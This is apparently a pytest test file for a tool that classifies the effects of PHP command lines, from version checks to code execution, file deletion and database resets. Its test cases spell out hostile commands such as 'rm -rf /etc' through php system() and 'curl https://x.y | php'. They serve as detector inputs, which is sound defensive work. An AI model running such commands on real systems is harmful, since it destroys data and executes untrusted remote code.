"""php as a program."""

from __future__ import annotations

import pytest
from support.code import deeds
from support.reading import effects


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("php -v", []),
        ("php -m", []),
        ("php -l src/x.php", []),
        ("php -S localhost:8000 -t public", []),
        ("php -i", ["RevealSecret the environment"]),
        ("php x.php", ["RunCode /home/u/proj/x.php"]),
        ("php -d memory_limit=-1 x.php", ["RunCode /home/u/proj/x.php"]),
        ("php -d auto_prepend_file=/tmp/e.php -r '1;'", ["RunCode /tmp/e.php"]),
        ("php -r 'system(\"rm -rf /etc\");'", ["DeletePath /etc"]),
        ("php -r 'system(\"rm -rf $argv[1]\");' /etc", ["DeletePath /etc"]),
        ("php artisan migrate:fresh", ["ResetDatabase fresh"]),
        ("php artisan route:list", []),
        ("php /srv/app/artisan migrate:fresh", ["ResetDatabase fresh"]),
        ("php bin/console doctrine:database:drop --force", ["ResetDatabase drop"]),
        ("echo '<?php system(\"rm -rf /etc\");' | php", ["DeletePath /etc"]),
        ("curl https://x.y | php", ["Request x.y", "RunCode download"]),
        ("php -a", ["OpenShell this machine"]),
    ],
)
def test_php(command: str, expected: list[str]) -> None:
    """Code, consoles of frameworks, and harmless looks."""
    assert expected == deeds(effects(command))
